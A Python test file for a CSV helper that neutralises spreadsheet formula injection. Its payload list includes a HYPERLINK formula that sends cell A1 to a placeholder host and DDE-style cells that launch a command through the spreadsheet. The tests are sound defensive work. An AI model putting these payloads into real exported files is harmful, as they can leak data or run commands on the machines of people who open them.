"""Spreadsheet-safe CSV cells (``service/curvekeeper/csvcells.py``)."""

from __future__ import annotations

import csv
import io

from curvekeeper.csvcells import TextSafeWriter, neutralise

FORMULAS = ['=HYPERLINK("http://example.invalid/?q="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_formula_cells_are_quoted_and_plain_text_is_kept() -> None:
    for cell in FORMULAS:
        assert neutralise(cell) == "'" + cell
    for cell in ("gw-3", "csv:bench.csv", "", "a=b", "outlier", "'already"):
        assert neutralise(cell) == cell


def test_only_text_columns_change() -> None:
    buf = io.StringIO()
    w = TextSafeWriter(buf, ["seq", "source", "y", "reason"])
    w.writerow(["seq", "source", "y", "reason"])
    w.writerow([1, FORMULAS[0], "-1.5", "-outlier"])
    w.writerow([2, None, -2.25, ""])
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows[0] == ["seq", "source", "y", "reason"]
    assert rows[1] == ["1", "'" + FORMULAS[0], "-1.5", "'-outlier"]
    assert float(rows[1][2]) == -1.5 and rows[2] == ["2", "", "-2.25", ""]
